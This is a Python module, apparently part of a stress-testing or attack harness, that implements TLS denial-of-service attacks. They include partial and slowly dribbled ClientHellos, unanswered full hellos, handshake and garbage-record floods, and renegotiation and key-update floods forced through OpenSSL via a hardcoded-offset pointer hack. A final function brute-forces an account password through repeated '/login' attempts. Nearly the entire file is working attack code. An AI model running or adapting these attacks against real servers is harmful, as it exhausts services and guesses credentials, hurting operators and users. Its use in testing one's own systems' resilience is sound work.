"""Attacks on TLS: hand-shakes that are not finished, or asked for again and again."""

import ctypes
import ctypes.util
import ssl

from place import again_and_again, random_name
from streams import keep


def context(version=None):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    if version is not None:
        made.maximum_version = version
    return made


def hello():
    """The bytes of a ClientHello."""
    out = ssl.MemoryBIO()
    tls = context().wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def half(target, size, service):
    """Half of a hello, and then nothing."""
    text = hello()

    def connect(at):
        sock = target.connection(service, at)
        sock.sendall(text[: len(text) // 2])
        return sock

    keep(size, connect)


def loris(target, size, service):
    """A hello, a byte a second."""
    text, sent = hello(), {}

    def act(sock):
        at = sent.get(sock, 0)
        sock.send(text[at : at + 1] or b"x")
        sent[sock] = at + 1

    keep(size, lambda at: target.connection(service, at), act)


def silent(target, size, service):
    """A whole hello, whose answer costs the server a signature, and then nothing."""
    text = hello()

    def connect(at):
        sock = target.connection(service, at)
        sock.sendall(text)
        return sock

    keep(size, connect)


def hellos(target, size, service):
    """Hellos, so many a second; each connection is closed with the answer."""
    text, open_socks = hello(), []

    def act(at):
        try:
            sock = target.connection(service, at * 64)
            sock.sendall(text)
            open_socks.append(sock)
        except OSError:
            return
        if len(open_socks) > 200:
            open_socks.pop(0).close()

    again_and_again(size, act)


def finished(target, size, service):
    """Whole hand-shakes, and then nothing: so many connections at a time."""
    tls = context()

    def connect(at):
        # the hand-shake is made when something is read
        sock = tls.wrap_socket(target.connection(service, at), do_handshake_on_connect=False)
        sock.setblocking(False)
        try:
            sock.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return sock

    keep(size, connect)


def handshakes(target, size, service):
    """Whole hand-shakes, so many a second."""
    tls = context()

    def act(at):
        try:
            tls.wrap_socket(target.connection(service, at * 64)).close()
        except OSError:
            pass

    again_and_again(size, act)


def garbage(target, size, service):
    """A first byte as of TLS, and then anything, so many a second."""

    def act(at):
        try:
            sock = target.connection(service, at * 64)
            sock.sendall(b"\x16\x03\x01\x02\x00" + b"\x01" * 400)
            sock.close()
        except OSError:
            pass

    again_and_again(size, act)


def library():
    """OpenSSL, for what Python's module does not offer."""
    return ctypes.CDLL(ctypes.util.find_library("ssl") or "libssl.so.3")


def pointer(sock):
    """The SSL* of a connection: the second field of CPython's object, behind its head and its socket."""
    return ctypes.c_void_p.from_address(id(sock._sslobj._sslobj if hasattr(sock._sslobj, "_sslobj") else sock._sslobj) + 24)


def renew(target, size, service, version):
    """Connections that have their keys renewed as fast as the server does it: key updates, or renegotiation in TLS 1.2."""
    tls, openssl = context(version), library()
    is_old = version == ssl.TLSVersion.TLSv1_2

    def connect(at):
        return tls.wrap_socket(target.connection(service, at), do_handshake_on_connect=True)

    def act(sock):
        for _ in range(50):
            if is_old:
                openssl.SSL_renegotiate(pointer(sock))
                openssl.SSL_do_handshake(pointer(sock))
            else:
                # 1: the other side is to renew its own keys too
                openssl.SSL_key_update(pointer(sock), 1)
                openssl.SSL_do_handshake(pointer(sock))

    keep(size, connect, act, every=0.001)


def updates(target, size, service):
    renew(target, size, service, ssl.TLSVersion.TLSv1_3)


def renegotiations(target, size, service):
    renew(target, size, service, ssl.TLSVersion.TLSv1_2)


def logins(target, size, service):
    """Guesses an account's password by `/login` over TLS."""
    tls, end = context(), b"\n" if service == "roomTls" else b" " * 160

    def connect(at):
        return tls.wrap_socket(target.connection(service, at * 64))

    keep(size, connect, lambda sock: sock.send(b"/login visitor " + random_name().encode() + end), every=0.02)
